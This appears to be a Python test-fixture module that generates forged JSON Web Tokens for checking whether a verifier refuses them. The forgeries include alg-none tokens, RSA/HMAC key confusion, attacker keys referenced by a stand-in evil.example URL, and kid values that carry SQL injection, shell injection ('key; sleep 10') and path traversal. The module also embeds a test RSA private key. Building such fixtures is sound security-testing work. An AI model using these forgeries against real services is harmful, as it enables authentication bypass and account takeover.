"""An attacker's kit for JWTs: honest tokens made by hand, and the ways in which they are forged.

    kit = Kit(key=SECRET, claims={"iss": ISSUER, "aud": "orders", "sub": "ada", "exp": now + 600})
    kit.token(sub="grace")              an honest token
    kit.unsigned(), kit.resigned(), …   what must be refused: token by what is wrong with it

The standard library is enough: HMAC, and RS256 with a key that comes along (`RSA`). Which of the collections must be
refused is for the contract of a lab to say; what each is good for stands beside it. A token that points to a key
elsewhere must cause no call either: `Upstream.calls` counts those.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

Tokens = dict[str, str]
"""Token by what is wrong with it, in words that may be shown to the candidate."""

ABSENT = object()
"""As the value of a claim or of a header's field: it is not there at all."""

_LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
_DIGESTS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
_SHA256_INFO = bytes.fromhex("3031300d060960864801650304020105000420")  # RFC 8017, 9.2: DigestInfo
_RSA_ALGORITHM = bytes.fromhex("300d06092a864886f70d0101010500")  # RFC 8017, A.1: rsaEncryption


def part(content: Any) -> str:
    """One part of a token: base64url without padding; what is neither bytes nor text is written as JSON."""
    text = content if isinstance(content, bytes | str) else json.dumps(content)
    data = text.encode() if isinstance(text, str) else text
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def raw(text: str) -> bytes:
    """The bytes of one part of a token."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def content_of(token: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """Header and claims of *token*, unverified. Raises ValueError when it is no compact token of two JSON objects."""
    head, body, _ = token.split(".")
    header, claims = json.loads(raw(head)), json.loads(raw(body))
    if not isinstance(header, dict) or not isinstance(claims, dict):
        raise ValueError("header and payload must be objects")
    return header, claims


@dataclass(frozen=True)
class RsaKey:
    """An RSA key: modulus, public and private exponent; with one of its primes it signs three times as fast."""

    modulus: int
    public: int
    private: int
    prime: int = 0

    @property
    def pem(self) -> str:
        """The public key as it is published: PEM of SubjectPublicKeyInfo (RFC 5280)."""
        numbers = b"".join(_der(2, _unsigned(one, padded=True)) for one in (self.modulus, self.public))
        info = _der(0x30, _RSA_ALGORITHM + _der(3, b"\0" + _der(0x30, numbers)))
        text = base64.b64encode(info).decode("ascii")
        lines = [text[at : at + 64] for at in range(0, len(text), 64)]
        return "\n".join(["-----BEGIN PUBLIC KEY-----", *lines, "-----END PUBLIC KEY-----", ""])

    @property
    def jwk(self) -> dict[str, str]:
        """The public key as a JSON Web Key (RFC 7517)."""
        return {"kty": "RSA", "n": part(_unsigned(self.modulus)), "e": part(_unsigned(self.public))}

    def sign(self, message: bytes) -> bytes:
        """RSASSA-PKCS1-v1_5 with SHA-256 (RFC 8017, 8.2)."""
        size = (self.modulus.bit_length() + 7) // 8
        encoded = _SHA256_INFO + hashlib.sha256(message).digest()
        padded = b"\0\1" + b"\xff" * (size - len(encoded) - 3) + b"\0" + encoded
        return self._power(int.from_bytes(padded, "big")).to_bytes(size, "big")

    def _power(self, number: int) -> int:
        """The private operation, by the Chinese remainder theorem where that can be (RFC 8017, 5.1.2)."""
        if not self.prime:
            return pow(number, self.private, self.modulus)
        one, other = self.prime, self.modulus // self.prime
        first, second = (pow(number, self.private % (prime - 1), prime) for prime in (one, other))
        return second + other * ((first - second) * pow(other, -1, one) % one)


Key = str | bytes | RsaKey


def _unsigned(number: int, *, padded: bool = False) -> bytes:
    return number.to_bytes((number.bit_length() + 7) // 8 + (padded and number.bit_length() % 8 == 0), "big")


def _der(tag: int, content: bytes) -> bytes:
    size = _unsigned(len(content))
    length = size if len(content) < 0x80 else bytes([0x80 | len(size)]) + size
    return bytes([tag]) + length + content


RSA = RsaKey(
    modulus=int.from_bytes(
        raw(
            "mXCfcZCvS8qCpRmHBTK0lCFMhDAqSjsZaYjUwaLjZW93ryD4kKLstnmspguBRIB4xHPrWZbZd5Jwz3DKwBsl_uhjVQ-C5uVXIntv"
            "mfIQl77X5vCCNIPcOqqYo0fd4dK5xRgjNCn9z3yydhKeBYzNjnQ38DwJpA15NFnaazMv8e1w8PT0Lb_MG3YD26ud4yLCSStKqnAN"
            "lX2DupvQg4twZrcxZ3ojMYtA4_pgZnukWFum8C7_sT77X_pa1xqPGl7KGl89SOb-7CVYK_xOPmlVqu2UYSLc-IRDDFPGjNcBls1Q"
            "9MvtcVw_9XEI5J6NfqJ_2hgRFzm8LToRuhn8vPZ24Q"
        ),
        "big",
    ),
    public=65537,
    private=int.from_bytes(
        raw(
            "AHg17Ywqbpn7uT5_VuvKcN98Ob2MOeZsuj9mnEstkYiPGISej3dYLVb4_G5YC7GjS0sJsTnZWg1E3y-VlhTd1y4dQK0OdedkhSmY"
            "Sm8Uvkl3zYssiREaLQqg2qvpAZIZZAVq4lTPY1EOqAARoKYkRLDjzXC68Ynk3qiKEu70NMLei_pLokD9Wb9cvB7_nsMCEVCDZ61o"
            "5-NyQv5LxkqE0U1du-GC6s8sLdn_ETT5dV1dnYW26JvLVk4Bf_Ug1MohcpLQbGLQPzUIe4VIqZ7CGBpc_EWQLgkyDZT-bwY94Jtu"
            "yx1GsIqYYSIoavHWd_mfRI1ZwqD_3BKmwxJf9JFh6w"
        ),
        "big",
    ),
    prime=int.from_bytes(
        raw(
            "0mnTjh3tmwEsN7eOVgslVvTZd4jNugtU8dMawtcS_qzJoBycww3VBbnQUr6r_K0UE0utusH0ejAnWM85uwlB6ofa45b5Jrnr4G2O"
            "PKEREfVXyMIENzanRiDzsf3FfPzAkHP3plwJCOp05L4kBnuy7SZBTj-V5s9-t17-T1XHaU8"
        ),
        "big",
    ),
)
"""A key of this house, for tests alone: it guards nothing."""


def mac(text: str, key: Key, alg: str) -> bytes:
    """The signature of *text* under *alg*: HS256, HS384, HS512, or RS256 with an `RsaKey`."""
    if isinstance(key, RsaKey):
        return key.sign(text.encode())
    return hmac.new(key.encode() if isinstance(key, str) else key, text.encode(), _DIGESTS[alg]).digest()


def signed(header: Any, claims: Any, key: Key, alg: str = "HS256") -> str:
    """A token over *header* and *claims*, JSON values, or text or bytes that are taken as they are.

    *alg* is what is really done, whatever the header says.
    """
    text = f"{part(header)}.{part(claims)}"
    return f"{text}.{part(mac(text, key, alg))}"


def respelled(token: str) -> Tokens:
    """The same token in other letters: for a reader that is not strict its signature has the same bytes.

    Whoever remembers tokens by their text does not know these again. A reader may refuse them (RFC 4648, 3.3 and 3.5).
    """
    found = {"letters of no meaning": f"{token[:-4]}!!!!{token[-4:]}"}
    missing = -len(token.rpartition(".")[2]) % 4
    if missing:
        found["padding"] = token + "=" * missing
        found["another last letter"] = token[:-1] + _LETTERS[_LETTERS.index(token[-1]) ^ 1]
    return found


@dataclass(frozen=True)
class Kit:
    """What honest tokens of a service are made of. `key` signs them under `alg`."""

    key: Key
    claims: Mapping[str, Any]
    header: Mapping[str, Any] = field(default_factory=dict)
    alg: str = "HS256"

    def token(self, header: Mapping[str, Any] | None = None, /, **claims: Any) -> str:
        """A token with a right signature; *header* and *claims* replace what an honest one has (ABSENT: leave out)."""
        return signed(self._header(**(header or {})), self._claims(**claims), self.key, self.alg)

    def _header(self, **changed: Any) -> dict[str, Any]:
        return _present({"alg": self.alg, "typ": "JWT"} | dict(self.header) | changed)

    def _claims(self, **changed: Any) -> dict[str, Any]:
        return _present(dict(self.claims) | changed)

    def _with(self, key: Key, alg: str, /, **header: Any) -> str:
        return signed(self._header(**header), self._claims(), key, alg)

    def unsigned(self) -> Tokens:
        """No signature, half of one, or another token's: under an honest header, and under `none` as it is spelled."""
        head, body, honest = self.token().split(".")
        found: Tokens = {}
        for spelling in ("none", "None", "NONE", "nOnE", "", " none", None):
            text = f"{part(self._header(alg=spelling))}.{body}"
            found[f"alg {spelling!r} without a signature"] = f"{text}."
            found[f"alg {spelling!r} with an old signature"] = f"{text}.{honest}"
        other = part(self._claims() | {"sub": "root"})
        return found | {
            "no signature": f"{head}.{body}.",
            "no third part": f"{head}.{body}",
            "half a signature": f"{head}.{body}.{honest[: len(honest) // 8 * 4]}",
            "a signature of zeros": f"{head}.{body}.{part(bytes(len(raw(honest))))}",
            "a changed payload": f"{head}.{other}.{honest}",
            "two signatures": f"{head}.{body}.{honest}.{honest}",
        }

    def resigned(self) -> Tokens:
        """Other keys and other algorithms, among them HMAC with what is public of an RSA key (RFC 8725, 2.1)."""
        found = {f"the key {name}": self._hmac(key) for name, key in (("'secret'", "secret"), ("''", ""))}
        if isinstance(self.key, RsaKey):
            jwk = self.key.jwk
            public = {
                "the public key's PEM": self.key.pem,
                "the PEM without its last line feed": self.key.pem.strip(),
                "the public key's JWK": json.dumps(jwk, separators=(",", ":")),
                "the JWK with blanks": json.dumps(jwk),
                "the modulus": jwk["n"],
            }
            return found | {
                f"{alg} with {what} as its key": self._hmac(key, alg)
                for alg in _DIGESTS
                for what, key in public.items()
            }
        for alg in (one for one in _DIGESTS if one != self.alg):
            found[f"the honest key under {alg}"] = self._with(self.key, alg, alg=alg)
            found[f"{self.alg} in the header, {alg} in truth"] = self._with(self.key, alg)
            found[f"{alg} in the header, {self.alg} in truth"] = self._with(self.key, self.alg, alg=alg)
        found["RS256 with a key of the sender's"] = self._with(RSA, "RS256", alg="RS256")
        return found

    def _hmac(self, key: Key, alg: str = "HS256") -> str:
        return self._with(key, alg, alg=alg)

    def own_keys(self, url: str = "https://keys.evil.example/keys.json") -> Tokens:
        """The sender brings a key, or says where one lies (*url*): `jwk`, `jku`, `x5u`, `x5c`."""
        mine = "a key of the sender's own, quite long"
        oct_key = {"kty": "oct", "k": part(mine), "alg": "HS256"}
        return {
            "a symmetric key in the header": self._with(mine, "HS256", alg="HS256", jwk=oct_key),
            "a public key in the header": self._with(RSA, "RS256", alg="RS256", jwk=RSA.jwk),
            "a certificate in the header": self._with(RSA, "RS256", alg="RS256", x5c=[part(RSA.pem)]),
            "jku": self._with(mine, "HS256", alg="HS256", jku=url),
            "x5u": self._with(RSA, "RS256", alg="RS256", x5u=url),
            "a kid that is an address": self._with(mine, "HS256", alg="HS256", kid=url),
        }

    def key_ids(self, known: Mapping[str, str | bytes] | None = None) -> Tokens:
        """A `kid` that names what the sender knows the content of: *known* adds such, content by kid."""
        contents = {
            "/dev/null": "",
            "../../../../../../dev/null": "",
            "": "",
            "nobody": "",
            "0": "",
            "__class__": "",
            "' UNION SELECT 'secret' --": "secret",
            "nobody' OR '1'='1": "secret",
            "key; sleep 10": "secret",
            "a\0b": "secret",
        } | dict(known or {})
        found = {f"kid {kid!r}": self._with(key, "HS256", alg="HS256", kid=kid) for kid, key in contents.items()}
        for kid in (None, 7, True, ["a"], {"a": "b"}, "nobody", ABSENT):
            shown = "no kid" if kid is ABSENT else f"kid {kid!r}"
            found[f"{shown} under an honest signature"] = self._with(self.key, self.alg, kid=kid)
        return found

    def headers(self) -> Tokens:
        """What a reader must understand or refuse (RFC 7515, 4.1.11; RFC 7797), and a type of another purpose."""
        return {
            "an unknown critical field": self.token({"crit": ["tenant"], "tenant": "a"}),
            "an empty list of critical fields": self.token({"crit": []}),
            "a critical field that is not there": self.token({"crit": ["exp"]}),
            "critical fields as text": self.token({"crit": "exp"}),
            "an unencoded payload": self.token({"b64": False}),
            "an unencoded payload, critical": self.token({"crit": ["b64"], "b64": False}),
            "a type of another purpose": self.token({"typ": "logout+jwt"}),
        }

    def times(self, now: int, leeway_s: int = 0) -> Tokens:
        """Tokens out of their time at *now*, with a right signature; each is wrong by ten seconds or more."""
        found = {
            "expired yesterday": self.token(exp=now - 86_400),
            f"expired {leeway_s + 10} s ago (tolerance {leeway_s} s)": self.token(exp=now - leeway_s - 10),
            "begins in an hour": self.token(nbf=now + leeway_s + 3600),
            f"begins in {leeway_s + 10} s (tolerance {leeway_s} s)": self.token(nbf=now + leeway_s + 10),
        }
        for name, good in (("exp", now + 600), ("nbf", now - 600)):
            wrong = {"in quotes": str(good), "a word": "soon", "true": True, "in a list": [good], "an object": {}}
            found |= {f"{name} is {what}": self.token(**{name: value}) for what, value in wrong.items()}
        return found

    def strangers(self, required: tuple[str, ...] = ("iss", "aud", "sub", "exp")) -> Tokens:
        """Tokens for somebody else or from somebody else, and such that lack a claim; the signature is right."""
        found: Tokens = {}
        if isinstance(issuer := self.claims.get("iss"), str):
            issuers = (f"{issuer}.evil.example", f"{issuer}/", issuer[:-1], issuer.upper(), [issuer], "")
            found |= {f"the issuer {one!r}": self.token(iss=one) for one in issuers if one != issuer}
        if isinstance(audience := self.claims.get("aud"), str):
            longer = (f"{audience}-admin", f"my {audience} and more", [f"{audience}2"])
            audiences: tuple[Any, ...] = (*longer, audience[:-1], [], {audience: 1}, "")
            found |= {f"the audience {one!r}": self.token(aud=one) for one in audiences}
        found |= {f"no {name}": self.token(**{name: ABSENT}) for name in required}
        found |= {f"{name} is null": self.token(**{name: None}) for name in required}
        if "sub" in required:
            found |= {f"the subject {one!r}": self.token(sub=one) for one in ("", 7, ["root"])}
        return found

    def twofold(self) -> Tokens:
        """Names that stand twice in header or payload: readers differ in which one counts (RFC 8259, 4)."""
        header, claims = json.dumps(self._header()), json.dumps(self._claims())
        return {
            "alg twice": signed(f'{{"alg": "none", {header[1:]}', claims, self.key, self.alg),
            "sub twice": signed(header, f'{{"sub": "root", {claims[1:]}', self.key, self.alg),
            "exp twice": signed(header, f'{claims[:-1]}, "exp": 32503680000}}', self.key, self.alg),
        }

    def malformed(self) -> Tokens:
        """What is no token at all; a reader refuses it as quietly as any other."""
        head, body, honest = self.token().split(".")
        return {
            "nothing": "",
            "a word": "abc",
            "two parts": "a.b",
            "three letters": "a.b.c",
            "five parts": "a.b.c.d.e",
            "dots alone": "..",
            "many dots": "." * 2000,
            "a header that is no JSON": f"{part('{alg')}.{body}.{honest}",
            "a header that is no UTF-8": f"{part(bytes([255, 254]))}.{body}.{honest}",
            "a list as header": signed(["HS256"], self._claims(), self.key, self.alg),
            "a list as payload": signed(self._header(), ["ada"], self.key, self.alg),
            "a number as payload": signed(self._header(), 7, self.key, self.alg),
            "no alg": self.token({"alg": ABSENT}),
            "a number as alg": self.token({"alg": 256}),
            "a list as alg": self.token({"alg": ["HS256"]}),
            "deeply nested": signed(self._header(), "[" * 3000 + "]" * 3000, self.key, self.alg),
            "blanks inside": f"{head}. {body}.{honest}",
        }


def _present(fields: Mapping[str, Any]) -> dict[str, Any]:
    return {name: value for name, value in fields.items() if value is not ABSENT}
